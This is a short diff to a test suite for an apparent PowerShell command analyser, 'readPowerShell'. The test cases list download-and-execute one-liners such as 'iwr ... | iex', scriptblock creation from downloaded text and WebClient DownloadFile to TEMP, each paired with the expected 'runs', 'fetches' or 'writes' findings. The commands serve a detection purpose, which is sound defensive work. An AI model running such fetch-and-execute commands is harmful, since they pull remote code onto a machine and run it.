@@ -136,6 +136,8 @@ describe("readPowerShell: what runs, comes and goes", () => {
     ["iwr -useb http://h/x | iex", ["runs http://h/x"]],
     ["irm h.example/x.ps1 | iex", ["runs h.example/x.ps1"]],
     ["iwr h.example:8080 -OutFile C:\\a", ["fetches h.example:8080", "writes C:\\a"]],
+    ["& $c[12] 'http://h/x' -OutFile C:\\a", ["fetches http://h/x", "writes C:\\a"]],
+    ["& $c[12] 'http://h/x' C:\\a", []],
     ["$c=(irm 'http://h/x'); & ([scriptblock]::Create($c))", ["runs http://h/x"]],
     [
       "(New-Object System.Net.WebClient).DownloadFile('http://h/x.exe',\"$env:TEMP\\x.exe\")",
